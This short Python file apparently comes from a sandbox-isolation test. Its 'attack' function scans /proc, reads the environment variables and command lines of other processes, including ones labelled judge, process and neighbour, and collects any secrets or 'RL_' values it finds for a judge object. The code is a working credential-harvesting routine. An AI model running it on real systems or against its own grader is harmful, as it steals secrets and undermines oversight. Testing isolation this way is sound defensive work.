import contextlib
import os


def attack(judge, aims):
    numbers = {1, os.getppid(), aims["judge"], aims["process"], aims["neighbour"], *range(2, 300)} - {os.getpid()}
    with contextlib.suppress(OSError):
        numbers |= {int(name) for name in os.listdir("/proc") if name.isdigit()} - {os.getpid()}
    found = [dict(os.environ)] if any("RL_" in name or "SECRET" in name for name in os.environ) else []
    for number in numbers:
        with contextlib.suppress(OSError), open(f"/proc/{number}/environ", "rb") as file:
            content = file.read(100_000)
            if b"RL_" in content or b"SECRET=" in content or b"PATH=" in content:
                found.append(content)
    with contextlib.suppress(OSError), open(f"/proc/{aims['process']}/cmdline", "rb") as file:
        found.append(file.read(100_000))
    if found:
        judge.tell(found)
